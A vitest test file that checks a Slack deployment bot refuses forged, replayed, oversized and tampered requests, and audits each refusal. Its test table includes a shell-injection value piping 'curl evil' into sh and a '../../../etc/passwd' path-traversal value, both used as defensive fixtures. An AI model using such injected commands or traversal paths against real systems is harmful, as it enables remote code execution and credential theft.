import { Agent, request } from 'undici';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  blockActionsBody,
  postSigned,
  signRequest,
  slashCommandBody,
  staleTimestamp,
} from '../../sim/slack/sign.ts';
import type { RunId } from '../../src/domain/ids.ts';
import { APPROVE_ACTION } from '../../src/slack/views/approval.ts';
import { PLANTED, SENTINEL } from '../helpers/evidence.ts';
import { pollUntil } from '../helpers/poll.ts';
import { ALICE, BOB, type BotWorld, CHANNEL, MALLORY, SECRET, STAGING, startBotWorld } from './bot-world.ts';

// Requests nobody honest sends: each is refused, changes nothing, and is audited when it names a run.
let world: BotWorld;
let finishedRun: RunId;

beforeAll(async () => {
  world = await startBotWorld();
  world.aad.autoApprove();
  finishedRun = await world.start();
  await world.finished(finishedRun, 30_000);
});
afterAll(async () => {
  await world?.stop();
});

function click(user: string, actionId: string, value: string) {
  return postSigned(
    `${world.bot.url}/slack/events`,
    blockActionsBody({ userId: user, channelId: CHANNEL, messageTs: '1700000000.000100', actionId, value }),
    { secret: SECRET },
  );
}

function ephemeralTo(user: string, text: string) {
  return pollUntil(() => world.slack.api.ephemerals({ user }).find((e) => e.text?.includes(text)), {
    what: `an ephemeral to ${user} saying "${text}"`,
  });
}

/** Nothing moved: no new run, the last run as it was, nothing new in the channel. */
async function nothingChanged(before: { messages: number; current: RunId | undefined }) {
  expect(await world.runs.currentRunId(STAGING)).toBe(before.current);
  expect((await world.runs.get(finishedRun))?.state).toBe('passed');
  expect(world.slack.api.messages(CHANNEL)).toHaveLength(before.messages);
}

async function snapshot() {
  return {
    messages: world.slack.api.messages(CHANNEL).length,
    current: await world.runs.currentRunId(STAGING),
  };
}

describe('the secrets this test run planted', () => {
  it('are the ones the bot works with, so the final scan for them means something', () => {
    expect(SECRET).toContain(SENTINEL);
    expect(world.slack.api.botToken).toContain(SENTINEL);
    expect(world.config.environments.get(STAGING)?.database.url).toContain(SENTINEL);
    // Phase 0 reads the running api's environment, which holds the planted .env secrets.
    expect(world.sim.serviceEnv('api').HUNTER_SECRET_KEY).toContain(SENTINEL);
    // The run above signed in: the cache it installed holds tokens the fake Azure AD marked.
    expect(world.sim.tokenCacheFile()?.content).toContain(PLANTED.aadTokenMark);
  });
});

describe('hostile or broken requests to the bot', () => {
  it('refuses a replayed slash command (timestamp older than 5 minutes) and starts nothing', async () => {
    const before = await snapshot();
    const res = await postSigned(
      `${world.bot.url}/slack/events`,
      slashCommandBody({ text: 'staging', userId: ALICE, channelId: CHANNEL }),
      { secret: SECRET, ts: staleTimestamp() },
    );
    expect(res.status).toBe(401);
    await nothingChanged(before);
  });

  it('refuses an oversized body before reading it all, and keeps answering', async () => {
    const before = await snapshot();
    const body = slashCommandBody({
      text: `staging ${'x'.repeat(5 * 1024 * 1024)}`,
      userId: ALICE,
      channelId: CHANNEL,
    });
    // Its own connection: the server may close it mid-upload, as it should.
    const own = new Agent();
    const status = await request(`${world.bot.url}/slack/events`, {
      method: 'POST',
      headers: signRequest(SECRET, body.rawBody, Math.floor(Date.now() / 1000)),
      body: body.rawBody,
      dispatcher: own,
    }).then(
      (res) => res.statusCode,
      () => 'connection closed',
    );
    await own.close().catch(() => undefined);
    expect([413, 'connection closed']).toContain(status);
    await nothingChanged(before);
    const help = await world.slash('help');
    expect(help.status).toBe(200);
    expect(help.text).toContain('/pc-verify');
  });

  it('acknowledges a button it does not know, refuses it and records it against the run it names', async () => {
    const before = await snapshot();
    const auditBefore = (await world.audit.entries(STAGING)).length;
    const res = await click(MALLORY, 'turn_flag_on_now', finishedRun);
    // Acknowledged, not left to Bolt's "unhandled request" timer, which answers 404 (Slack shows an error).
    expect(res.status).toBe(200);
    await ephemeralTo(MALLORY, 'does not know this button');
    // Mallory is on no list: the refusal is kept apart from the trail, counted per minute.
    expect(await world.audit.entries(STAGING)).toHaveLength(auditBefore);
    expect(await world.audit.refusals.entries(STAGING)).toContainEqual(
      expect.objectContaining({
        actor: MALLORY,
        action: 'button.unknown',
        runId: finishedRun,
        detail: 'unknown action id "turn_flag_on_now"',
      }),
    );
    await nothingChanged(before);
  });

  it.each([
    ['shell metacharacters', `${'r'}x; curl evil | sh`],
    ['a path', '../../../etc/passwd'],
    ['an empty value', ''],
  ])('refuses an Approve whose value was tampered with (%s)', async (_what, value) => {
    const before = await snapshot();
    const auditBefore = (await world.audit.entries(STAGING)).length;
    expect((await click(BOB, APPROVE_ACTION, value)).status).toBe(200);
    await ephemeralTo(BOB, 'does not name a run (tampered or outdated)');
    // It names no run, so no environment's audit stream is the place for it; the log has it.
    expect(await world.audit.entries(STAGING)).toHaveLength(auditBefore);
    await pollUntil(() => world.logs.find((l) => l.includes('approval click for no known run')), {
      what: 'the refused click in the log',
    });
    await nothingChanged(before);
  });

  it('refuses an Approve whose value is too long to be a button of ours', async () => {
    const before = await snapshot();
    expect((await click(BOB, APPROVE_ACTION, 'r'.repeat(10_000))).status).toBe(200);
    await ephemeralTo(BOB, 'could not read this button');
    await nothingChanged(before);
  });

  it('refuses and audits an Approve that names a run which is not waiting for approval', async () => {
    const before = await snapshot();
    const auditBefore = (await world.audit.entries(STAGING)).length;
    await click(BOB, APPROVE_ACTION, finishedRun);
    await ephemeralTo(BOB, 'no longer waiting for approval (it is passed)');
    const added = (await world.audit.entries(STAGING)).slice(auditBefore);
    expect(added).toEqual([
      expect.objectContaining({
        actor: BOB,
        action: 'approval.approve',
        runId: finishedRun,
        outcome: 'refused',
      }),
    ]);
    expect((await world.audit.verify(STAGING)).ok).toBe(true);
    await nothingChanged(before);
  });
});
